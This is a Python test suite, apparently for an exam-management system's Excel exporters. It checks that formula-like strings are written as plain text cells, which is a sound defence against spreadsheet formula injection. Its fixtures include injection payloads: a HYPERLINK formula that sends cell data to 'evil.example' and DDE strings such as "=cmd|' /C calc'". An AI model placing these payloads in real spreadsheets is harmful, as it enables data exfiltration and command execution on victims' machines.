"""Every Excel export stores text as text (security issue #12, point 6).

For each exporter, strings that a spreadsheet would run as a formula (「=HYPERLINK(…)」,
「+cmd|…」, 「-1+1」, 「@SUM(…)」, with a leading tab, carriage return, line feed or space, and the
full-width ＝＋－＠ that East Asian input methods type) are written through the export and read
back with openpyxl: the cell is a text cell (data type ``s``, never ``f`` or ``e``) and its value
is the string, except that line ends come back as line feeds and characters XML cannot carry
are dropped (see :func:`foundation.xlsx.cell_text`).
"""

from __future__ import annotations

import io
import re
import zipfile
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from examroom.candidate_import import import_template_bytes as candidate_template_bytes
from foundation.occupation_excel import export_occupations_bytes
from foundation.occupation_excel import import_template_bytes as occupation_template_bytes
from foundation.xlsx import append_row, new_workbook, set_cell, workbook_bytes, write_header
from grading.psychometrics import report_excel
from grading.psychometrics.reports import DifComparison, DifReport, DifRow, ItemReport, PaperReport
from itembank.blueprint_excel import blueprint_template_bytes, export_blueprint_bytes
from itembank.item_excel import EXPORT_COLUMNS, export_items_bytes, item_template_bytes

PREFIXES = ("=", "+", "-", "@", "\t=", "\t@", "\r=", "\r\n+", "\n-", " =", "＝", "＋", "－", "＠")
# Any character but lone surrogates (a Python str from the database or a form cannot hold one).
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
FORMULA_LIKE = st.one_of(
    st.builds(lambda p, t: p + t, st.sampled_from(PREFIXES), TEXT),
    st.sampled_from(['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0",
                     "@SUM(1+1)*cmd|'/C calc'!A0", "+1+1", "-2+3", "#N/A", "#DIV/0!", "#REF!", "=1+1\r\n"]),
)
EXAMPLES = settings(max_examples=40, deadline=None)

_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def expected(value: str) -> str:
    """What a text cell holds for ``value`` (an independent statement of the writer's rule)."""
    return _NOT_XML.sub("", value.replace("\r\n", "\n").replace("\r", "\n"))


def cells(data: bytes) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_cells(data: bytes, *values: str) -> None:
    """No formula or error cell anywhere, and each value is in some text cell."""
    found = cells(data)
    kinds = {(c.coordinate, c.data_type) for c in found if c.data_type in ("f", "e")}
    assert not kinds, kinds
    texts = {c.value for c in found if c.data_type == "s"}
    for value in values:
        assert expected(value) in texts, (value, texts)


# ---------------------------------------------------------------- the writer itself


@EXAMPLES
@given(FORMULA_LIKE, st.booleans())
def test_writer_stores_any_str_as_text(value: str, write_only: bool) -> None:
    if write_only:
        workbook, sheet = new_workbook("表")  # the exporters' streaming sheets
    else:
        workbook = openpyxl.Workbook()  # the calls work on in-memory sheets too
        sheet = workbook.active
    write_header(sheet, [value, "列"])
    append_row(sheet, [value, 1, None], wrap_multiline=True)
    data = workbook_bytes(workbook)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.value == expected(value)
    assert sheet["B2"].value == 1


def test_empty_text_inside_a_row_writes_no_cell() -> None:
    """An empty string reads back as None whether written as an empty text cell or not at all,
    so append_row writes no cell for it (a third of an item export's cells: unused options,
    rules, scoring points), except in the row's last column, which keeps the row's extent."""
    workbook, sheet = new_workbook("表")
    append_row(sheet, ["a", "", "b", ""])
    data = workbook_bytes(workbook)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert 'r="B1"' not in xml and 'r="D1"' in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.value for c in sheet[1]] == ["a", None, "b", None] and sheet.max_column == 4


@EXAMPLES
@given(TEXT)
def test_set_cell_round_trips_plain_text(value: str) -> None:
    workbook = openpyxl.Workbook()  # set_cell on a cell of an in-memory sheet (new_cell uses it too)
    set_cell(workbook.active["A1"], "x" + value + "x")  # guards against a blank cell reading back as None
    cell = openpyxl.load_workbook(io.BytesIO(workbook_bytes(workbook))).worksheets[0]["A1"]
    assert (cell.data_type, cell.value) == ("s", expected("x" + value + "x"))


@pytest.mark.slow
def test_templates_hold_no_formula() -> None:
    for data in (occupation_template_bytes(), blueprint_template_bytes(), item_template_bytes(),
                 candidate_template_bytes()):
        assert_text_cells(data)


# ---------------------------------------------------------------- each exporter


@EXAMPLES
@given(FORMULA_LIKE, FORMULA_LIKE)
def test_occupation_export(name: str, other: str) -> None:
    occupation = SimpleNamespace(code=other, name=name, work_types=[SimpleNamespace(name=other)], lowest_level=5,
                                 highest_level=1, is_access_type=False, note=name, active=True)
    assert_text_cells(export_occupations_bytes(None, [occupation]), name, other)  # type: ignore[arg-type]


@pytest.mark.slow
@EXAMPLES
@given(FORMULA_LIKE, FORMULA_LIKE)
def test_blueprint_export(name: str, other: str) -> None:
    blueprint = SimpleNamespace(name=name, nodes=[
        SimpleNamespace(code="A", name=name, importance=None, weight=100),
        SimpleNamespace(code="A-001", name=other, importance="X", weight=0),
    ])
    assert_text_cells(export_blueprint_bytes(blueprint), name, other)  # type: ignore[arg-type]


@pytest.mark.slow
@EXAMPLES
@given(FORMULA_LIKE, FORMULA_LIKE)
def test_item_export(text: str, other: str) -> None:
    version = SimpleNamespace(spec={"options": [{"html": "甲"}, {"html": "乙"}], "key": ["A"]}, stem_html=text,
                              difficulty=None, explanation_html="", source=text, number=1)
    item = SimpleNamespace(code=other, item_type="single_choice", status="draft", current_version=version,
                           point=SimpleNamespace(code=other, blueprint=SimpleNamespace(name=text)))
    data = export_items_bytes([item])  # type: ignore[list-item]
    assert_text_cells(data, text, other)
    row = next(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=2, values_only=True))
    values = dict(zip(EXPORT_COLUMNS, row, strict=True))
    assert values["来源"] == values["细目表"] == expected(text)


def _dif_report(text: str, other: str) -> DifReport:
    run = SimpleNamespace(id=1, model="2pl", response_set=SimpleNamespace(name=text))
    row = DifRow(item_id=1, code=other, alpha_mh=1.0, d_dif=0.0, se=0.1, chi_square=0.0, p_value=1.0,
                 ets_class="A", n_reference=10, n_focal=10)
    return DifReport(run=run, group_names=(text,), group=text, values=((text, 10), (other, 10)),  # type: ignore[arg-type]
                     reference=text, comparisons=(DifComparison(focal=other, n_focal=10, rows=(row,)),),
                     matching=other, excluded=(other,), n_examinees=20, alpha=0.05)


@pytest.mark.slow
@EXAMPLES
@given(FORMULA_LIKE, FORMULA_LIKE)
def test_analysis_report_exports(text: str, other: str) -> None:
    assert_text_cells(report_excel.dif_report_xlsx(_dif_report(text, other)), text, other)
    paper = PaperReport(paper=SimpleNamespace(name=text, cut_theta=0.0), forms=(), run=None,  # type: ignore[arg-type]
                        runs=())
    assert_text_cells(report_excel.paper_report_xlsx(paper), text)
    item = ItemReport(item=SimpleNamespace(code=other, item_type=text), run=None, parameter=None,  # type: ignore[arg-type]
                      curves=None, observed=None, observed_note=text, options=None, options_note=other, ctt_n=None,
                      ctt_p=None, ctt_pbis=None, ctt_d=None, history=(), flags=())
    assert_text_cells(report_excel.item_report_xlsx(item), text, other)
